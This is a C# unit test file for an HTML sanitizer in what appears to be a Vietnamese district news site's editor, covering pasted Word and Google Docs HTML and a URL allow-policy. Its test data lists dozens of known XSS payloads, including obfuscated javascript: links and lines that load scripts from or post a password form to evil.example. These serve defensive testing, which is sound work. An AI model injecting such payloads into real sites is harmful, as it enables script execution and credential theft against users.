using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using District5News.Web.Features.Editing;

namespace District5News.UnitTests.Editing;

public sealed class HtmlBodySanitizerTests
{
    private static readonly HashSet<string> AllowedElements =
    [
        "p", "h2", "h3", "h4", "strong", "b", "em", "i", "u", "ul", "ol", "li", "a", "img", "blockquote", "br",
        "figure", "figcaption", "picture", "source", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td",
    ];

    private readonly HtmlBodySanitizer _sanitizer = new();

    /// <summary>Known XSS payloads, each with a visible word that must survive where the payload had text.</summary>
    public static TheoryData<string> XssPayloads() =>
    [
        "<p>an toàn</p><script>alert('xss')</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT><p>an toàn</p>",
        "<p>an toàn<img src=x onerror=alert(1)></p>",
        "<img src=\"x\" ONERROR=\"alert(1)\" alt=\"a\">",
        "<svg onload=alert(1)><circle r=1 /></svg><p>an toàn</p>",
        "<svg><script>alert(1)</script></svg>",
        "<a href=\"javascript:alert(1)\">liên kết</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">liên kết</a>",
        "<a href=\"  javascript:alert(1)\">liên kết</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">liên kết</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">liên kết</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">liên kết</a>",
        "<a href=\"&#x6A;avascript&colon;alert(1)\">liên kết</a>",
        "<a href=\"vbscript:msgbox(1)\">liên kết</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">liên kết</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"ảnh\">",
        "<p style=\"display:none\">ẩn</p>",
        "<p style=\"visibility:hidden\">ẩn</p>",
        "<p style=\"font-size:0;color:#fff;position:absolute;left:-9999px\">ẩn</p>",
        "<iframe src=\"https://evil.example/\"></iframe><p>an toàn</p>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/\"><input name=\"mat-khau\" type=\"password\"><button>Gửi</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><p>an toàn</p>",
        "<base href=\"https://evil.example/\"><a href=\"/tin-tuc\">liên kết</a>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><p>an toàn</p>",
        "<style>body{display:none}</style><p>an toàn</p>",
        "<div onclick=\"alert(1)\">an toàn</div>",
        "<p onmouseover=\"alert(1)\">an toàn</p>",
        "<details open ontoggle=alert(1)>an toàn</details>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"https://ok.example/\" target=\"_blank\" style=\"display:block\" class=\"x\" id=\"y\">liên kết</a>",
        "<img src=\"https://ok.example/a.jpg\" srcset=\"javascript:alert(1) 1x\" alt=\"ảnh\">",
        "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
        "<table background=\"javascript:alert(1)\"><tr><td style=\"display:none\">ô</td></tr></table>",
        "<img src=\"mailto:x@example.com\" alt=\"ảnh\">",
        "<a href=\"\\\\evil.example\\x\">liên kết</a>",
    ];

    [Theory]
    [MemberData(nameof(XssPayloads))]
    public void Sanitize_XssPayload_LeavesNothingActive(string payload)
    {
        var output = _sanitizer.Sanitize(payload).Html;

        var body = new HtmlParser().ParseDocument(output).Body!;
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, AllowedElements);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, new[] { "href", "src", "alt", "colspan", "rowspan", "srcset", "sizes", "width", "height", "loading", "decoding", "type" });
                if (attribute.Name is "href" or "src")
                {
                    var url = new string(attribute.Value.Where(c => c > ' ').ToArray()).ToLowerInvariant();
                    var relative = !url.Split('/', '?', '#')[0].Contains(':', StringComparison.Ordinal) && !url.StartsWith("//", StringComparison.Ordinal);
                    Assert.True(url.StartsWith("http://", StringComparison.Ordinal) || url.StartsWith("https://", StringComparison.Ordinal) || relative
                        || (element.LocalName == "a" && url.StartsWith("mailto:", StringComparison.Ordinal)),
                        $"{attribute.Name}=\"{attribute.Value}\" survived in {output}");
                }
            }
        }

        Assert.DoesNotContain("alert", output, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil.example", output, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("<p style=\"display:none\">ẩn</p>", "<p>ẩn</p>\n")]
    [InlineData("<p style=\"visibility:hidden\">ẩn</p>", "<p>ẩn</p>\n")]
    public void Sanitize_HiddenByStyle_BecomesVisibleText(string input, string expected) =>
        Assert.Equal(expected, _sanitizer.Sanitize(input).Html);

    [Fact]
    public void Sanitize_EditorOutput_IsKeptAsItIs()
    {
        const string html = "<h2>Tiêu đề phụ</h2>\n<p>Đoạn <strong>đậm</strong>, <em>nghiêng</em>, <u>gạch</u> và "
            + "<a href=\"https://quan5.example/tin\">liên kết</a> hay <a href=\"mailto:ubnd@quan5.example\">thư</a>.</p>\n"
            + "<ul><li>một</li><li>hai</li></ul>\n<ol><li>ba</li></ol>\n<h3>Nhỏ hơn</h3>\n"
            + "<p><img src=\"/uploads/2026/11/a.jpg\" alt=\"Ảnh\"></p>\n<blockquote>Trích dẫn</blockquote>\n"
            + "<figure><img src=\"/uploads/media/ab/ab000000000000000000000000000000-960.jpg\" alt=\"Ảnh\"><figcaption>Chú thích — Ảnh: Lê Văn A</figcaption></figure>\n"
            + "<table><tbody><tr><th>Cột</th><td colspan=\"2\">Ô</td></tr></tbody></table>\n";

        Assert.Equal(html, _sanitizer.Sanitize(html).Html);
    }

    [Fact]
    public void Sanitize_WordParagraphs_StayParagraphsWithoutTheirStyles()
    {
        const string word = """
            <html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style></head><body>
            <!--StartFragment-->
            <p class=MsoNormal style='margin-bottom:0cm;line-height:normal'><span lang=VI style='font-size:13.0pt;font-family:"Times New Roman",serif'>Sáng nay, UBND Quận 5 tổ chức hội nghị.</span><o:p></o:p></p>
            <p class=MsoNormal><o:p>&nbsp;</o:p></p>
            <p class=MsoNormal style='text-align:justify'><b><span style='mso-bidi-font-weight:normal'>Nội dung chính</span></b><span> gồm ba phần.</span></p>
            <p class=MsoListParagraph style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>Phần một</p>
            <!--EndFragment-->
            </body></html>
            """;

        var output = _sanitizer.Sanitize(word).Html;

        var paragraphs = new HtmlParser().ParseDocument(output).QuerySelectorAll("p").Select(p => p.TextContent.Trim()).ToList();
        Assert.Equal(3, paragraphs.Count);
        Assert.Equal("Sáng nay, UBND Quận 5 tổ chức hội nghị.", paragraphs[0]);
        Assert.Equal("Nội dung chính gồm ba phần.", paragraphs[1]);
        Assert.EndsWith("Phần một", paragraphs[2], StringComparison.Ordinal);
        Assert.Contains("<b>Nội dung chính</b>", output, StringComparison.Ordinal);
        Assert.DoesNotContain("style", output, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("class", output, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("span", output, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("Mso", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Sanitize_GoogleDocsPaste_IsNotAllBold()
    {
        const string docs = "<meta charset=\"utf-8\"><b style=\"font-weight:normal;\" id=\"docs-internal-guid-1a2b\">"
            + "<p dir=\"ltr\" style=\"line-height:1.38\"><span style=\"font-size:11pt\">Đoạn một</span></p>"
            + "<br><p dir=\"ltr\"><span>Đoạn hai</span></p></b>";

        Assert.Equal("<p>Đoạn một</p>\n<p>Đoạn hai</p>\n", _sanitizer.Sanitize(docs).Html);
    }

    [Fact]
    public void Sanitize_BrowserDivsAndLooseText_BecomeParagraphs()
    {
        Assert.Equal("<p>Dòng đầu</p>\n<p>Dòng hai</p>\n<p>Dòng <b>ba</b></p>\n",
            _sanitizer.Sanitize("Dòng đầu<div>Dòng hai</div><div>Dòng <b>ba</b></div><div><br></div>").Html);
    }

    [Fact]
    public void Sanitize_PlainText_BecomesOneParagraphPerLine()
    {
        Assert.Equal("<p>Đoạn một.</p>\n<p>Đoạn hai &lt;3 &amp; hơn.</p>\n",
            _sanitizer.Sanitize("Đoạn một.\r\n\r\nĐoạn hai <3 & hơn.\n").Html);
    }

    [Fact]
    public void Sanitize_HeadingsOutsideTheEditorsSet_AreMappedIntoIt()
    {
        Assert.Equal("<h2>Một</h2>\n<h4>Năm</h4>\n", _sanitizer.Sanitize("<h1>Một</h1><h5>Năm</h5>").Html);
    }

    [Theory]
    [InlineData("a", "https://quan5.example/x", true)]
    [InlineData("a", "/tin-tuc/1/x", true)]
    [InlineData("a", "tin-tuc/1", true)]
    [InlineData("a", "mailto:ubnd@quan5.example", true)]
    [InlineData("img", "mailto:ubnd@quan5.example", false)]
    [InlineData("img", "data:image/png;base64,AAAA", false)]
    [InlineData("img", "/uploads/media/ab/ab000000000000000000000000000000-960.jpg", true)]
    [InlineData("img", "/uploads/2026/11/0123abcd.jpg", true)]
    [InlineData("img", "https://quan5.example/uploads/a.jpg", false)]
    [InlineData("img", "/a.jpg", false)]
    [InlineData("img", "/uploads/../appsettings.json", false)]
    [InlineData("img", "/uploads/media/.x.tmp", false)]
    [InlineData("img", "//evil.example/uploads/a.jpg", false)]
    [InlineData("source", "/uploads/media/ab/a-480.webp", true)]
    [InlineData("a", "java\u0000script:alert(1)", false)]
    [InlineData("a", "\u0001javascript:alert(1)", false)]
    [InlineData("a", "ftp://quan5.example/", false)]
    [InlineData("a", "//quan5.example/x", true)]
    public void IsAllowedUrl_FollowsThePolicy(string element, string url, bool allowed) =>
        Assert.Equal(allowed, HtmlBodySanitizer.IsAllowedUrl(element, url));
}
